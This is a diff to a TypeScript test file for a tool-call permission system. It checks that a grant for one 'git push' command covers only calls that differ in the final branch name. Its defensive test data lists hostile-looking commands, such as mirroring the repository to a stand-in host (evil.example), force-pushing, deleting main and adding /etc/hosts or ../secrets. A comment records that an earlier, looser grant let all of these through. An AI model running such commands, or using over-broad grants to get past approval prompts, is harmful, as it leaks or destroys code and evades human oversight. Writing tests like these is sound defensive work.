@@ -11,17 +11,31 @@ const asked = { policyRule: 'network writes and publishing', risk: 'medium' as c
 const bash = (command: string) => ({ tool: 'Bash', command, cwd: FOLDER, session: 'session-1' });
 
 describe('the rule proposed for "calls like this"', () => {
-  it('is the same program and subcommand, then any plain words, in the same folder', () => {
-    const similar = proposeSimilar(bash('git push origin main'), asked);
+  it('is the same words in the same folder, the last one any name after a subcommand', () => {
+    const similar = proposeSimilar(bash('git push origin feature/x'), asked);
     expect(similar).toEqual({
       tool: 'Bash',
-      words: ['git', 'push'],
-      moreWords: true,
+      words: ['git', 'push', 'origin'],
+      thenAnyName: true,
       folder: FOLDER,
       policyRule: 'network writes and publishing',
       conversation: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/),
     });
-    expect(similarCommandText(similar!)).toBe('git push …');
+    expect(similarCommandText(similar!)).toBe('git push origin ‹name›');
+  });
+
+  it.each([
+    // Nothing after the subcommand: nothing to vary.
+    ['git push', ['git', 'push']],
+    // The last word is an option, a refspec, a URL, an absolute path or leaves the folder.
+    ['git pull --rebase', ['git', 'pull', '--rebase']],
+    ['git push origin :main', ['git', 'push', 'origin', ':main']],
+    ['git push origin +main', ['git', 'push', 'origin', '+main']],
+    ['git clone https://example.com/r.git', ['git', 'clone', 'https://example.com/r.git']],
+    ['git add /etc/hosts', ['git', 'add', '/etc/hosts']],
+    ['git add ../secrets', ['git', 'add', '../secrets']],
+  ])('is exactly %j where the last word is not a name', (command, words) => {
+    expect(proposeSimilar(bash(command), asked)).toMatchObject({ words, thenAnyName: false });
   });
 
   it.each([
@@ -41,7 +55,7 @@ describe('the rule proposed for "calls like this"', () => {
     ['docker run alpine', ['docker', 'run', 'alpine']],
     ['cargo run --bin tool', ['cargo', 'run', '--bin', 'tool']],
   ])('is exactly %j where a subcommand would say too little', (command, words) => {
-    expect(proposeSimilar(bash(command), asked)).toMatchObject({ words, moreWords: false });
+    expect(proposeSimilar(bash(command), asked)).toMatchObject({ words, thenAnyName: false });
   });
 
   it.each([
@@ -109,14 +123,36 @@ describe('a grant covers a call', () => {
     return granted !== undefined && grantCovers(grant, granted);
   };
 
-  it('when it is the same program and subcommand with plain words, asked by the same rule', () => {
-    expect(covers('git push')).toBe(true);
+  it('when only the last word differs, and it is a name, asked by the same rule', () => {
+    expect(covers('git push origin main')).toBe(true);
     expect(covers('git push origin feature/x')).toBe(true);
+    expect(covers('git push origin release-1.2')).toBe(true);
+  });
+
+  // The phone walk of 2026-12-04: a grant from `git push origin feature/x` ran all of these.
+  // Each is judged as if the same policy rule asked at the same risk, so only the grant stands
+  // between it and the shell.
+  it.each([
+    'git push --mirror https://evil.example/r.git',
+    'git push -f origin main',
+    'git push origin --delete main',
+    'git push origin -d main',
+    'git push origin :main',
+    'git push origin +main',
+    'git push origin main:production',
+    'git push https://evil.example/r.git main',
+    'git push origin ../../elsewhere',
+    'git push origin /srv/other.git',
+    'git push origin main feature/x',
+    'git push origin',
+    'git push',
+    'git push evil main',
+  ])('never %j, which changes more than one name', (command) => {
+    expect(covers(command, { policyRule: similar.policyRule, risk: 'medium' })).toBe(false);
   });
 
   it('never when the policy finds it riskier (git push --force asks under another rule)', () => {
     expect(covers('git push --force origin main')).toBe(false);
-    expect(covers('git push origin :main')).toBe(false);
   });
 
   it.each([
@@ -135,19 +171,21 @@ describe('a grant covers a call', () => {
   it('never another program, subcommand, tool, folder or a riskier call', () => {
     expect(covers('git pull')).toBe(false);
     expect(covers('/tmp/git push')).toBe(false);
-    expect(covers('git push', { tool: 'exec' })).toBe(false);
-    expect(covers('git push', { cwd: '/home/dev/other' })).toBe(false);
-    expect(covers('git push', { risk: 'high' })).toBe(false);
+    expect(covers('git push origin feature/x', { tool: 'exec' })).toBe(false);
+    expect(covers('git push origin feature/x', { cwd: '/home/dev/other' })).toBe(false);
+    expect(covers('git push origin feature/x', { risk: 'high' })).toBe(false);
   });
 
   it('for a session grant, only in that session', () => {
     const sessionGrant = { ...grant, kind: 'session' as const, session: similar.conversation! };
-    expect(grantCovers(sessionGrant, call('git push')!)).toBe(true);
-    expect(grantCovers(sessionGrant, call('git push', { conversation: 'another-session' })!)).toBe(false);
+    expect(grantCovers(sessionGrant, call('git push origin feature/x')!)).toBe(true);
+    expect(
+      grantCovers(sessionGrant, call('git push origin feature/x', { conversation: 'another-session' })!),
+    ).toBe(false);
   });
 
   it('for an exact rule, only that exact command', () => {
-    const exact = { ...grant, similar: { ...similar, words: ['make', 'clean'], moreWords: false } };
+    const exact = { ...grant, similar: { ...similar, words: ['make', 'clean'], thenAnyName: false } };
     const asMake = { policyRule: similar.policyRule, risk: 'medium' as const };
     expect(grantCovers(exact, call('make clean', asMake)!)).toBe(true);
     expect(grantCovers(exact, call('make clean all', asMake)!)).toBe(false);
